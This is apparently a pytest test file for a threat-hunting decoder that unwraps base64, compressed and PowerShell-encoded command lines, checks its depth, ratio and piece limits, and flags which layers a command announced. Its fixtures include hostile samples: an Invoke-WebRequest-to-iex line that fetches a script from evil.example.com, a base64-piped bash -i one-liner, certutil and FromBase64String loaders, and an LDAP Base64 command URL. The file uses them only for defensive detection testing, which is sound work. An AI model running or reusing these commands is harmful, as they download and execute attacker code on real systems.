"""One text decoded to its last layer: what is found, what is left alone, where it ends."""

import base64
import bz2
import gzip
import lzma
import zlib

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from huntkit.extract.decode_limits import DecodeLimits
from huntkit.extract.layers import decode_text, decode_texts
from huntkit.extract.run_contents import Memory, may_decode

SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"
PLAIN = "Some long identity of a mailbox, nothing else"


def b64(data: bytes | str, encoding: str = "utf-8") -> str:
    return base64.b64encode(data.encode(encoding) if isinstance(data, str) else data).decode()


def texts(text: str) -> list[str]:
    return [layer.text for layer in decode_text(text)]


@pytest.mark.parametrize(
    "switch", ["-e", "-ec", "-enc", "-en", "/enc", "-EncodedCommand", "-eNcOdE", "–enc"]
)
def test_short_encoded_commands_of_powershell_are_read(switch):
    assert texts(f"powershell.exe -nop {switch} {b64('whoami', 'utf-16-le')}") == ["whoami"]


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("gzip", gzip.compress),
        ("zlib", zlib.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ],
)
def test_compressed_content_is_opened(name, pack):
    (layer,) = decode_text(b64(pack(SCRIPT.encode())))
    assert (layer.text, layer.encoding) == (SCRIPT, f"base64 > {name} > utf-8")


def test_deflate_needs_the_call_that_announces_it():
    packer = zlib.compressobj(wbits=-15)
    raw = packer.compress(SCRIPT.encode()) + packer.flush()
    assert texts(f"[Convert]::FromBase64String('{b64(raw)}')") == [SCRIPT]


def test_url_safe_unpadded_split_and_wrapped_runs():
    text = "????>>>>" + SCRIPT
    safe = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    assert "_" in safe or "-" in safe
    assert texts(f"token={safe};") == [text]
    run = b64(SCRIPT * 3)
    assert texts(f"$a = '{run[:30]}' + '{run[30:70]}'+'{run[70:]}'") == [SCRIPT * 3]
    assert texts("\r\n".join(run[i : i + 64] for i in range(0, len(run), 64))) == [SCRIPT * 3]


def test_layers_are_nested_with_their_parents():
    text = SCRIPT
    for _ in range(5):
        text = f"powershell -enc {b64(text, 'utf-16-le')}"
    layers = decode_text(text)
    assert [(layer.number, layer.parent, layer.depth) for layer in layers] == [
        (n, n - 1, n) for n in range(1, 6)
    ]
    assert layers[-1].text == SCRIPT


def test_depth_ends_at_the_limit_and_says_so():
    text = SCRIPT
    for _ in range(24):
        text = b64(text)
    layers = decode_text(text)
    assert len(layers) == 20
    assert layers[-1].note == "stopped: more than 20 layers"


def test_a_bomb_ends_at_the_ratio_and_says_so(hang_guard):
    bomb = b64(gzip.compress(b"\x41" * 50_000_000))
    with hang_guard():
        (layer,) = decode_text(bomb, DecodeLimits(ratio=10))
    assert layer.content.size <= 1 << 20
    assert layer.note == "stopped: more than 10 times the packed size"
    assert layer.limit == "ratio"
    nested = b64(gzip.compress(gzip.compress(gzip.compress(b"\0" * 200_000_000))))
    with hang_guard():
        assert all(layer.content.size <= 8 << 20 for layer in decode_text(nested))


def test_many_pieces_end_at_the_limit_and_say_so():
    layers = decode_text(
        " ".join(b64(f"this is piece number {n:05}") for n in range(60)), DecodeLimits(pieces=50)
    )
    assert len(layers) == 50
    assert layers[-1].note == "stopped: more than 50 pieces"


def test_programs_are_named_and_their_strings_shown():
    program = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40
    (layer,) = decode_text(b64(program))
    assert layer.note == "binary: Windows program, 130 bytes"
    assert layer.text == "This program cannot be run"


@pytest.mark.parametrize(
    "text",
    [
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "{9f85ce58-59dc-5f2b-1000-000000000400}",
        r"C:\Windows\System32\SystemSettingsAdminFlows.exe SetInternetTime 1",
        "/usr/lib/x86_64-linux-gnu/systemd/systemd-networkd-wait-online",
        "https://www.example.com/some/long/path/with/many/segments/index.html?a=b",
        "Microsoft.Windows.ShellExperienceHost_cw5n1h2txyewy",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "A" * 100,
        "tar -e ABCD",
    ],
)
def test_plain_text_is_left_alone(text):
    assert texts(text) == []


@pytest.mark.parametrize(
    ("text", "announced"),
    [
        ('"Name": "Identity", "Value": "{}"', False),
        ("GoogleUpdate.exe /ping {}", False),
        ("zoom.exe --url=zoommtg://zoom.example/join?pwd={}", False),
        ("powershell -enc {}", True),
        ("$x = '{}'; iex ([Convert]::FromBase64String($x))", True),
        ('bash -c "{{echo,{}}}|{{base64,-d}}|{{bash,-i}}"', True),
        ("echo {} | base64 --decode", True),
        ("certutil -f -decode in out & rem {}", True),
        ("ldap://192.0.2.6:1389/Basic/Command/Base64/{}", True),
    ],
)
def test_layers_that_no_command_announces_are_marked(text, announced):
    (layer,) = decode_text(text.format(b64(PLAIN)))
    assert layer.announced is announced


def test_what_lies_in_an_announced_layer_is_announced():
    inner = b64(PLAIN)
    assert [layer.announced for layer in decode_text(f"powershell -enc {b64(inner)}")] == [True] * 2
    assert [layer.announced for layer in decode_text(f"id={b64(inner)}")] == [False] * 2


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200) | st.text(alphabet="aA0+/=-_'\" e\r\n", max_size=400))
def test_no_text_makes_it_fail(text):
    for layer in decode_text(text):
        assert text[layer.start : layer.end] or layer.parent


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), min_size=30))
def test_what_was_encoded_comes_out_in_utf_16(text):
    run = b64(text, "utf-16-le")
    assert text in texts(f"powershell -enc {run}")


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=400))
def test_no_bytes_make_it_fail(data):
    decode_text(f"FromBase64String('{b64(data)}')")
    decode_text(f"FromBase64String('{b64(gzip.compress(data)[:-6])}')")


def test_what_was_opened_before_is_remembered_with_its_own_place():
    memory = Memory()
    run = b64(SCRIPT)
    found = decode_texts(pl.Series([f"a {run}", f"longer {run}"]), memory=memory)
    found += decode_texts(pl.Series([f"{run}"]), memory=memory)
    assert [(layer.text, layer.start) for (layer,) in found] == [
        (SCRIPT, 2), (SCRIPT, 7), (SCRIPT, 0),
    ]  # fmt: skip
    assert len({id(layer.content) for (layer,) in found}) == 1


def test_a_windows_program_is_seen_at_first_sight():
    program = b"MZ\x90\x00" + b"\x00" * 74 + b"This program cannot be run" + bytes(range(256)) * 9
    assert may_decode(b64(program))
    assert not may_decode(b64(b"MZ" + bytes(range(256)) * 9))
